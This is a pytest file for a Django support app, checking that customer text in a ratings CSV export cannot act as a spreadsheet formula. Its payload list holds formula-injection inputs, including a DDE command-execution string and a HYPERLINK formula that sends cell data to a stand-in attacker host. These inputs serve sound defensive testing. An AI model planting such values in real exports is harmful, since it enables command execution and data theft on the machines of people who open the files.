"""Whatever customers write stays words when a supervisor opens the export in a spreadsheet."""

import csv
import io

import pytest
from django.utils.timezone import now

from csat.models import Survey
from customers.models import Customer
from text.cells import harmless
from tickets.models import Ticket

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|cmd",
    "%0A=1",
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
]


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_is_a_formula(words):
    assert harmless(words).startswith("'")


@pytest.mark.parametrize(
    "words", ["", "Quick, and kind = good", "سريع جدًا", "۴۰ تا جعبه", "5 - fine", "\u200cخوب"]
)
def test_words_stay_as_they_are(words):
    assert harmless(words) == words


@pytest.mark.parametrize("words", [*FORMULAS, '","=1+1', "x\r\n=1+1,2", '"=1+1'])
def test_whoever_exports_gets_words(client, admin, orders, ann, words):
    eve = Customer.identify("email", "eve@evil.example", name=words[:100])
    ticket = Ticket.open(eve, orders, subject=words, source="email")
    survey = Survey.objects.create(ticket=ticket, team=orders, agent=ann, asked_at=now())
    survey.answer(1, words)
    client.force_login(admin)
    response = client.get("/ratings/export/")
    said = b"".join(response).decode()
    assert response["Content-Disposition"].startswith("attachment;")
    assert said.startswith("\ufeff")
    heads, row = csv.reader(io.StringIO(said.removeprefix("\ufeff"), newline=""))
    assert len(row) == len(heads) == 10
    for cell in row:
        bare = cell.lstrip(" \u00a0\u200b\u202e\ufeff")
        assert not bare or bare[0] not in "=+-@|%＝＋－＠\t\r\n"
